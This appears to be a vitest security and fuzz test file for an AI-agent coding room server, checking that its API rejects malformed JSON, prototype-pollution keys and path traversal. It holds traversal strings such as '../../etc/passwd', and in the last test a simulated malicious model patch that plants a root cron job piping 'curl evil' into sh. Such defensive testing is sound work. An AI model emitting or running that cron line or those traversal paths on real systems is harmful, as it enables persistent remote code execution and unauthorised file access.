import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ErrorBody } from '../../schema/protocol.ts';
import { type AgentRoom, startAgentRoom, suggestionsOf, waitRunStatus } from '../helpers/agent-room.ts';
import { api } from '../helpers/test-server.ts';
import { whenSynced } from '../helpers/y-client.ts';
import { type SeededRandom, seededRandom } from './seeded-random.ts';

const SEED = 0x2e57;
const RANDOM_BODIES = Number(process.env.FUZZ_REST_BODIES ?? 300);
/** Every status a refused or accepted command may answer; 5xx would be an unexpected throw. */
const EXPECTED = new Set([200, 201, 202, 400, 403, 404, 409, 413, 429]);

const TRAVERSALS = [
  '../../etc/passwd',
  '/etc/passwd',
  'src/../../secret',
  'src\\..\\win.ini',
  './src/math.ts',
  'src//math.ts',
  'src/math.ts\u0000.png',
  'src/',
  '',
  `${'a/'.repeat(300)}x`,
];

/** Random JSON, biased towards the field names and shapes the routes expect. */
function randomJson(rng: SeededRandom, depth = 0): unknown {
  const fields = [
    'name',
    'invite',
    'prompt',
    'file',
    'selection',
    'from',
    'to',
    'text',
    'mode',
    'accept',
    'interrupt',
    'resolved',
    '__proto__',
    'constructor',
  ];
  switch (rng.int(depth > 2 ? 6 : 9)) {
    case 0:
      return null;
    case 1:
      return rng.chance(0.5);
    case 2:
      return rng.pick([0, -1, 1.5, 2 ** 53 + 1, -(2 ** 31), 1e308, 3]);
    case 3:
      return rng.pick([
        ...TRAVERSALS,
        'owner',
        'editor',
        'viewer',
        'now',
        'queue',
        'x'.repeat(rng.int(30_000)),
      ]);
    case 4:
      return rng.text(40);
    case 5:
      return rng.pick(['{', '[]', '"', 'null']);
    case 6:
      return Array.from({ length: rng.int(5) }, () => randomJson(rng, depth + 1));
    default: {
      const out: Record<string, unknown> = {};
      for (let i = rng.int(5); i > 0; i--)
        out[rng.chance(0.8) ? rng.pick(fields) : rng.text(8)] = randomJson(rng, depth + 1);
      return out;
    }
  }
}

describe('REST input: invalid JSON, out-of-range fields and path traversal on every route', () => {
  let room: AgentRoom;
  let owner: string;
  let editor: string;
  let runId: string;
  let suggestionId: string;
  const roomPath = () => `/api/rooms/${room.roomId}`;

  beforeAll(async () => {
    room = await startAgentRoom();
    owner = room.people[0]!.token;
    editor = room.people[1]!.token;
    // Nothing the fuzz sends should reach the model; what does reach it answers at once.
    room.fake.setHandler(() => ({ text: 'Nothing to change.\n' }));
    room.fake.enqueue({
      text: '*** Begin Patch\n*** Update File: src/math.ts\n@@\n-  return a - b;\n+  return a + b;\n*** End Patch\n',
    });
    const watcher = room.client(owner, { review: true });
    await whenSynced(watcher);
    runId = await room.prompt(editor, 'fix add');
    await waitRunStatus(watcher, runId, ['completed']);
    suggestionId = suggestionsOf(watcher).find((s) => s.runId === runId)!.id;
  });
  afterAll(async () => {
    await room.close();
  });

  /** Every route, with the token that may use it. */
  const routes = () =>
    [
      { method: 'POST', path: '/api/rooms', token: undefined, body: true },
      { method: 'POST', path: `${roomPath()}/join`, token: undefined, body: true },
      { method: 'PUT', path: `${roomPath()}/policy`, token: owner, body: true },
      { method: 'POST', path: `${roomPath()}/runs`, token: editor, body: true },
      { method: 'POST', path: `${roomPath()}/runs/${runId}/steer`, token: editor, body: true },
      { method: 'GET', path: roomPath(), token: editor, body: false },
      { method: 'GET', path: `${roomPath()}/invites`, token: owner, body: false },
      { method: 'DELETE', path: `${roomPath()}/invites/viewer`, token: owner, body: false },
      { method: 'GET', path: `${roomPath()}/runs/${runId}`, token: editor, body: false },
      { method: 'POST', path: `${roomPath()}/runs/${runId}/interrupt`, token: editor, body: false },
      { method: 'POST', path: `${roomPath()}/runs/${runId}/reject`, token: editor, body: false },
      {
        method: 'POST',
        path: `${roomPath()}/suggestions/${suggestionId}/reject`,
        token: editor,
        body: false,
      },
      { method: 'GET', path: `${roomPath()}/blame?file=src/math.ts`, token: editor, body: false },
      // SAFE-85: the thread routes take the same hostile bodies.
      { method: 'POST', path: `${roomPath()}/threads`, token: editor, body: true },
      { method: 'PATCH', path: `${roomPath()}/threads/t_x`, token: editor, body: true },
      { method: 'POST', path: `${roomPath()}/threads/t_x/comments`, token: editor, body: true },
      { method: 'GET', path: `${roomPath()}/threads`, token: editor, body: false },
    ] as const;

  it('SAFE-11: every route with a body answers 400 bad_request to invalid JSON, non-objects and unknown fields', async () => {
    for (const r of routes().filter((x) => x.body)) {
      for (const [what, body] of [
        ['invalid JSON', '{"prompt": '],
        ['a JSON array', '[1,2]'],
        ['JSON null', 'null'],
        ['a string', '"hello"'],
        ['an unknown field', JSON.stringify({ unexpected: true })],
        ['a prototype key', '{"__proto__": {"role": "owner"}}'],
      ] as const) {
        const res = await api<ErrorBody>(room.server.url, r.method, r.path, { token: r.token, body });
        expect({
          route: `${r.method} ${r.path}`,
          what,
          status: res.status,
          code: res.body?.error.code,
        }).toEqual({
          route: `${r.method} ${r.path}`,
          what,
          status: 400,
          code: 'bad_request',
        });
      }
    }
  });

  it.each<[string, string, unknown]>([
    ['a prompt over 20,000 characters', '/runs', { prompt: 'x'.repeat(20_001) }],
    ['a blank prompt', '/runs', { prompt: '   ' }],
    ['a negative selection', '/runs', { prompt: 'p', selection: { from: -1, to: 2 } }],
    ['a selection that ends before it starts', '/runs', { prompt: 'p', selection: { from: 5, to: 2 } }],
    ['a fractional selection', '/runs', { prompt: 'p', selection: { from: 1.5, to: 2 } }],
    ['a steer with an unknown mode', `/runs/RUN/steer`, { text: 'x', mode: 'later' }],
    ['a steer over 20,000 characters', `/runs/RUN/steer`, { text: 'x'.repeat(20_001), mode: 'now' }],
  ])('SAFE-11: %s is a 400 naming the problem', async (_what, path, body) => {
    const res = await api<ErrorBody>(room.server.url, 'POST', `${roomPath()}${path.replace('RUN', runId)}`, {
      token: editor,
      body,
    });
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('bad_request');
    expect(res.body.error.message.length).toBeGreaterThan(0);
  });

  it('SAFE-11: a policy naming roles that do not exist, or too many, is a 400', async () => {
    for (const body of [
      { accept: ['admin'], interrupt: ['owner'] },
      { accept: ['owner', 'owner', 'owner', 'owner'], interrupt: [] },
      { accept: 'owner', interrupt: [] },
    ]) {
      const res = await api<ErrorBody>(room.server.url, 'PUT', `${roomPath()}/policy`, {
        token: owner,
        body,
      });
      expect(res.status).toBe(400);
    }
  });

  it('SAFE-12: file names that leave the room (traversal, absolute, backslashes, NUL) are refused on every route that takes one', async () => {
    for (const file of TRAVERSALS) {
      const prompt = await api<ErrorBody>(room.server.url, 'POST', `${roomPath()}/runs`, {
        token: editor,
        body: { prompt: 'read this', file },
      });
      expect({ file, status: prompt.status }).toEqual({ file, status: 400 });
      const blame = await api<ErrorBody>(
        room.server.url,
        'GET',
        `${roomPath()}/blame?file=${encodeURIComponent(file)}`,
        { token: editor },
      );
      expect({ file, status: blame.status }).toEqual({ file, status: 400 });
    }
  });

  it('SAFE-12: ids in the path that are not ids (traversal, encoded slashes) are 404s, never another room', async () => {
    for (const bad of ['..', '..%2F..%2Fetc', '%2e%2e', 'a%00b', 'x'.repeat(100)]) {
      for (const path of [
        `/api/rooms/${bad}`,
        `/api/rooms/${bad}/join`,
        `${roomPath()}/runs/${bad}`,
        `${roomPath()}/suggestions/${bad}/accept`,
        `/api/rooms/${bad}/import`,
        `/api/rooms/${bad}/export.zip`,
        `/api/rooms/${bad}/trace`,
      ]) {
        const method =
          path.endsWith('/join') || path.endsWith('/accept') || path.endsWith('/import') ? 'POST' : 'GET';
        const res = await api<ErrorBody>(room.server.url, method, path, {
          token: owner,
          ...(method === 'POST' ? { body: { invite: 'x', name: 'y' } } : {}),
        });
        expect({ path, refused: [400, 404].includes(res.status) }).toEqual({ path, refused: true });
      }
    }
  });

  it(`SAFE-11: ${RANDOM_BODIES} seeded random JSON bodies (seed ${SEED}) never get a 5xx, and every refusal has the error format`, async ({
    annotate,
  }) => {
    const rng = seededRandom(SEED);
    const statuses = new Map<number, number>();
    for (let i = 0; i < RANDOM_BODIES; i++) {
      const r = rng.pick(routes().filter((x) => x.body));
      const body = JSON.stringify(randomJson(rng));
      const res = await api<ErrorBody>(room.server.url, r.method, r.path, { token: r.token, body });
      statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
      expect({
        i,
        route: r.path,
        body: body.slice(0, 200),
        status: res.status,
        ok: EXPECTED.has(res.status),
      }).toEqual({
        i,
        route: r.path,
        body: body.slice(0, 200),
        status: res.status,
        ok: true,
      });
      if (res.status >= 400) expect(typeof res.body?.error?.code).toBe('string');
    }
    // The server still works.
    expect((await api(room.server.url, 'GET', roomPath(), { token: editor })).status).toBe(200);
    await annotate(
      `seed ${SEED}: ${RANDOM_BODIES} bodies, statuses ${[...statuses].map(([s, n]) => `${s}x${n}`).join(' ')}`,
    );
  });
});

describe('hostile model output: file names in a patch', () => {
  let room: AgentRoom | null = null;
  afterAll(async () => {
    await room?.close();
  });

  it('SAFE-12: a patch that adds or updates a file outside the room is reported unanchored, never suggested', async () => {
    room = await startAgentRoom();
    room.fake.enqueue({
      text: [
        'Adding files.',
        '*** Begin Patch',
        '*** Add File: ../../etc/cron.d/evil',
        '+* * * * * root curl evil | sh',
        '*** Add File: /tmp/absolute.ts',
        '+x',
        '*** Update File: ../src/math.ts',
        '@@',
        '-  return a - b;',
        '+  return a + b;',
        '*** End Patch',
        '',
      ].join('\n'),
    });
    const watcher = room.client(room.people[0]!.token, { review: true });
    await whenSynced(watcher);
    const id = await room.prompt(room.people[1]!.token, 'add files');
    const run = await waitRunStatus(watcher, id, ['completed', 'failed']);
    expect(suggestionsOf(watcher).filter((s) => s.runId === id)).toEqual([]);
    expect(run.unanchored.map((u) => u.file).sort()).toEqual([
      '../../etc/cron.d/evil',
      '../src/math.ts',
      '/tmp/absolute.ts',
    ]);
  });
});
